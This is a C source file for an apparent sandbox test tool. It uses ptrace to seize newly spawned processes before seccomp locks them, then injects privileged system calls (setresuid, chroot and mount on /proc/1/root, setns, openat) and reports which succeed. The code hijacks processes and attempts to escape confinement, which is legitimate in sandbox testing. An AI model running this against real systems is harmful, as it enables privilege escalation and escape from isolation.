/*
 * ambush TITLE COUNT SECONDS: a tracer that seizes each new process before that has locked itself up, COUNT times, and
 * tries what it could be used for. Each is let go, locks itself up, and is killed by SIGHUP, so that the next one comes.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "inject.h"
#include "report.h"

enum { AHEAD = 3 };

static bool is_unlocked(int pid)
{
	char path[64], text[4096], *line;
	ssize_t got;
	int file;

	snprintf(path, sizeof path, "/proc/%d/status", pid);
	file = open(path, O_RDONLY);
	got = file == -1 ? -1 : read(file, text, sizeof text - 1);
	close(file);
	text[got > 0 ? got : 0] = '\0';
	line = strstr(text, "\nSeccomp:\t");
	return line && line[10] == '0';
}

/* Stops at the entry of the call and at its return. Gives what it returned, or -1000 when the process has ended. */
static long inject(int pid, unsigned long at, long number, const long arguments[6])
{
	struct user_regs_struct before, after;
	int status;

	if (!get_registers(pid, &before))
		return -1000;
	after = before;
	aim(&after, at, number, arguments);
	set_registers(pid, &after);
	for (int stops = 0; stops < 2; stops++)
		if (ptrace(PTRACE_SYSCALL, pid, 0, 0) == -1 || waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
			return -1000;
	if (!get_registers(pid, &after))
		return -1000;
	set_registers(pid, &before);
	return result_in(&after);
}

static void report(const char *name, long result)
{
	say(name, "%s", result == -1000 ? "it ended" : result < 0 ? strerrorname_np((int)-result) : "ok");
}

/* What a capability, a descriptor or the keeper's memory would be good for. */
static void use(int pid, unsigned long at, unsigned long stack)
{
	static const char path[] = "/proc/1/root";
	struct iovec here = {(void *)path, sizeof path}, there = {(void *)(stack - 1024), sizeof path};
	long text = (long)stack - 1024;

	if (process_vm_writev(pid, &here, 1, &there, 1, 0) != (ssize_t)sizeof path)
		tell("process_vm_writev", -1);
	for (int number = 0; number < 128; number++) {
		/* Where the keeper and the entering process have theirs. */
		long flags = inject(pid, at, SYS_fcntl, (long[6]){number, F_GETFD});

		if (flags >= 0)
			say("descriptor", "%d", number);
	}
	report("setuid", inject(pid, at, SYS_setresuid, (long[6]){1, 1, 1}));
	report("chroot", inject(pid, at, SYS_chroot, (long[6]){text}));
	report("mount", inject(pid, at, SYS_mount, (long[6]){text, text, text, MS_BIND}));
	report("sethostname", inject(pid, at, SYS_sethostname, (long[6]){text, 4}));
	report("open", inject(pid, at, SYS_openat, (long[6]){AT_FDCWD, text, O_RDONLY}));
	report("namespace", inject(pid, at, SYS_setns, (long[6]){3, 0}));
}

/* The address of an instruction that makes a system call: it stops at the next one that it makes by itself. */
static bool find_call(int pid, unsigned long *at, unsigned long *stack)
{
	struct user_regs_struct registers;
	int status;

	if (ptrace(PTRACE_SYSCALL, pid, 0, 0) == -1 || waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)
		|| !get_registers(pid, &registers))
		return false;
	*at = where(&registers) - INSTRUCTION;
	*stack = stack_in(&registers);
	/* And to the return of this call. */
	return ptrace(PTRACE_SYSCALL, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status);
}

static bool ambush(int pid)
{
	unsigned long at, stack;
	int status;
	bool caught;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == -1)
		return false;
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
		return false;
	caught = is_unlocked(pid);
	if (caught && find_call(pid, &at, &stack) && is_unlocked(pid))
		use(pid, at, stack);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return caught;
}

int main(int count, char **arguments)
{
	long wanted, seen = 0, caught = 0, refused = 0;
	time_t end;
	int last = getpid();

	if (count != 4)
		return 64;
	wanted = atol(arguments[2]);
	end = time(NULL) + atol(arguments[3]);
	for (int pid = 1; pid < last; pid++) {
		char path[64], title[256] = "";
		int file;

		snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
		file = open(path, O_RDONLY);
		if (file != -1 && read(file, title, sizeof title - 1) > 0 && strcmp(title, arguments[1]) == 0)
			kill(pid, SIGHUP);
		close(file);
	}
	while (seen < wanted && time(NULL) < end) {
		for (int pid = last + 1; pid <= last + AHEAD; pid++) {
			if (kill(pid, 0) == -1)
				continue;
			seen++;
			errno = 0;
			if (ambush(pid))
				caught++;
			else if (errno == EPERM)
				refused++;
			last = pid;
			kill(pid, SIGHUP);
		}
	}
	say("seen", "%ld", seen);
	say("caught", "%ld", caught);
	say("refused", "%ld", refused);
	return 0;
}
